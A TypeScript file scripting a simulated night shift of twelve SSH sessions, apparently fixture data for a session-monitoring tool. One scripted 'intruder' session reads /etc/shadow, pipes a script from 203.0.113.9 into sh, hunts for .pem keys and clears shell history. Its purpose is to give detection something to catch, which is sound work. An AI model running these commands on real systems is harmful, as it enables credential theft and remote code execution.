import type { Script, SimulatedSession, Stage } from '../sources/replay/script';
import { already, command, lines, promptOf } from './programs/shell';
import { editor, top } from './programs/screens';
import { build, logTail, rows } from './programs/streams';
import type { Scenario } from './scenario';

const login = (stage: Stage, from: string) => ({ waitMs: 100, output: `Last login: Sun Nov 22 01:12:44 2026 from ${from}\r\n${promptOf(stage)}` });

/** Runs `work` for ever, with a prompt in between. */
const after = (past: readonly (readonly [string, string])[], work: (stage: Stage) => Generator<{ readonly waitMs: number; readonly output?: string; readonly typed?: string }>): Script =>
  function* play(stage) {
    yield login(stage, '10.20.4.31');
    for (const [text, answer] of past) yield* already(stage, text, answer);
    for (;;) {
      yield* work(stage);
      yield { waitMs: 800, output: promptOf(stage) };
    }
  };

const watchServices = after([], function* work(stage) {
  const { random } = stage;
  yield* command(random, 'kubectl get pods -n payments', lines(
    'NAME                        READY   STATUS    RESTARTS   AGE', 'api-6c9f7b8d5-2xkqp         1/1     Running   0          41d',
    'ledger-0                    1/1     Running   1          12d', `settlement-5d4b9-x8p2l      1/1     Running   0          ${random.integer(1, 59)}m`,
  ), { thinkMs: 6_000 });
  yield { waitMs: 300, output: promptOf(stage) };
  yield* command(random, 'kubectl logs -f ledger-0', '');
  yield* logTail(random, 900, 1, 25);
  yield { waitMs: 400, typed: '\x03', output: '^C\r\n' };
});

const database = after([['psql ledger', 'psql (16.4)\r\nType "help" for help.\r\n\r\n']], function* work({ random }) {
  yield* command(random, 'SELECT * FROM transfers WHERE state = \'queued\' LIMIT 20;', '', { thinkMs: 7_000 });
  yield* rows(random, 700, 2, 8);
});

const monitor = after([['htop', '']], (stage) => top(stage, 2_000, 30));
const builds = after([['cd /srv/build && make release', '']], (stage) => build(stage.random, 900, 2, 40));
const config = after([['vim /etc/nginx/nginx.conf', '']], (stage) => editor(stage, '/etc/nginx/nginx.conf', 1_100, 25));
const tail = after([['tail -f access.log', '']], (stage) => logTail(stage.random, 1_400, 2, 60));

const rootShell = after([['sudo su -', '[sudo] password for r.castillo: \r\n']], function* work(stage) {
  yield* command(stage.random, 'systemctl status settlement', lines('● settlement.service - Settlement engine', '     Active: \x1b[32mactive (running)\x1b[0m since Sat 2026-11-21 23:02:11 UTC'), { thinkMs: 9_000 });
});

const intruder = after([
  ['sudo su -', ''], ['cat /etc/shadow', lines('root:$6$e7…:20410:0:99999:7:::', 'daemon:*:20410:0:99999:7:::', 'm.okafor:$6$aa…:20644:0:99999:7:::')],
  ['curl -s http://203.0.113.9/stage.sh | sh', lines('fetching…', 'ok')],
], function* work(stage) {
  yield* command(stage.random, 'find / -name "*.pem" 2>/dev/null | head', lines('/etc/ssl/private/ledger.pem', '/srv/vault/tls.pem'), { thinkMs: 5_000, keyMs: 60 });
  yield { waitMs: 500, output: promptOf(stage) };
  yield* command(stage.random, 'history -c', '', { thinkMs: 8_000, keyMs: 60 });
});

const cleaner = after([['psql -c "DROP TABLE staging_transfers"', 'DROP TABLE\r\n']], function* work(stage) {
  yield* command(stage.random, 'du -sh /var/lib/postgresql/*', lines('1.1G\t/var/lib/postgresql/14', '212G\t/var/lib/postgresql/16'), { thinkMs: 11_000 });
});

const accounts = after([['sudo useradd -m contractor7', '']], function* work(stage) {
  yield* command(stage.random, 'tail -n 3 /etc/passwd', lines('app:x:998:998::/srv/app:/usr/sbin/nologin', 'contractor6:x:1012:1012::/home/contractor6:/bin/bash', 'contractor7:x:1013:1013::/home/contractor7:/bin/bash'), { thinkMs: 14_000 });
});

const idle: Script = function* play(stage) {
  yield login(stage, '10.20.9.2');
  for (;;) yield { waitMs: 45_000, typed: ' ', output: ' ' };
};

const people: readonly (readonly [user: string, asset: string, team: string, columns: number, rows: number, script: Script])[] = [
  ['m.okafor', 'db-prod-7', 'payments', 80, 24, database],
  ['j.lindqvist', 'k8s-node-3', 'platform', 100, 30, watchServices],
  ['r.castillo', 'settle-2', 'payments', 80, 24, rootShell],
  ['x.unknown', 'vault-1', 'security', 80, 24, intruder],
  ['s.nakamura', 'app-edge-1', 'web', 120, 36, monitor],
  ['d.petrov', 'ci-runner-4', 'build', 100, 30, builds],
  ['a.haddad', 'app-edge-2', 'web', 80, 24, config],
  ['l.moreau', 'ledger-1', 'payments', 80, 24, tail],
  ['k.novak', 'db-stage-1', 'data', 80, 24, cleaner],
  ['t.ekholm', 'mail-relay-1', 'messaging', 80, 24, idle],
  ['p.rossi', 'bastion-eu', 'platform', 80, 24, accounts],
  ['n.abebe', 'etl-5', 'data', 80, 24, idle],
];

export const quietNight: Scenario = {
  name: 'quiet-night',
  about: 'A dozen sessions of a night shift: most calm, three worth a look, one that is not right',
  sessions: (): readonly SimulatedSession[] => people.map(([user, asset, team, columns, rowCount, script], index) => ({
    user, asset, team, protocol: 'ssh', remoteAddress: `10.20.4.${31 + index}`, columns, rows: rowCount, seed: 100 + index, script,
  })),
};
